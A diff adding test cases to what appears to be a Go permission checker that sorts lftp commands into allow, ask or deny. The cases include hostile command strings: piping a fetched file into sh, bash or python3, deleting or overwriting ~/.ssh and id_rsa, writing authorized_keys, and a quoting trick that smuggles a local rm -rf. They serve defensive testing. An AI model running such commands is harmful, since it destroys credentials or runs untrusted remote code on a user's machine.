@@ -43,11 +43,16 @@ func TestLftpShellText(t *testing.T) {
 		{"lftp ftp://example.com <<< '!rm -rf ~/.ssh'", "deny"},
 		{"lftp -f bad.lftp", "deny"},
 		{"lftp -c 'open ftp://example.com; cat x > ~/.ssh/authorized_keys'", "deny"},
+		{"lftp -c 'open ftp://example.com; cat x.sh | sh'", "ask"}, // as curl … | sh
+		{"lftp -c 'open ftp://example.com; cat x.sh | bash -s'", "ask"},
+		{"lftp -c 'open ftp://example.com; cat x.py | python3'", "ask"},
 		// Look-alikes that keep (or now get) their decision.
 		{"lftp -c '!ls'", "allow"},
 		{"lftp -c 'shell ls -l'", "allow"},
 		{"lftp -c 'repeat 5m !ls'", "allow"},
 		{"lftp -c 'open ftp://example.com; ls | grep foo'", "allow"},
+		{"lftp -c 'open ftp://example.com; cat x.py | python3 tool.py'", "allow"}, // the output is data
+		{"lftp -c 'open ftp://example.com; cat x | sh -c \"wc -l\"'", "allow"},
 		{`lftp -c 'echo "!rm -rf ~/.ssh"'`, "allow"},              // echo prints it
 		{"lftp -c 'open ftp://example.com; rm -r .ssh'", "allow"}, // the remote host's
 		{"lftp -c 'open ftp://example.com; cat x > out.txt'", "allow"},
@@ -83,6 +88,8 @@ func TestLftpLocalWrites(t *testing.T) {
 		{"lftp -c 'open ftp://127.0.0.1; mirror -R . .ssh'", "deny"},
 		{"lftp -c 'open file:; put evil -o ~/.ssh/authorized_keys'", "deny"},
 		{"lftp -c 'open ftp://localhost; rm -r .ssh'", "deny"},
+		{"lftp -c \"echo 'x; local rm -rf ~/.ssh #'\"", "deny"}, // single quotes are ordinary characters to lftp
+		{"lftp -c '(lcd ~/.ssh; local rm id_rsa)'", "deny"},
 		{"lftp -c 'open sftp://localhost; mv .ssh/id_rsa x'", "deny"},
 		// Look-alikes that keep their decision.
 		{"lftp -c 'local rm notes.txt'", "allow"},
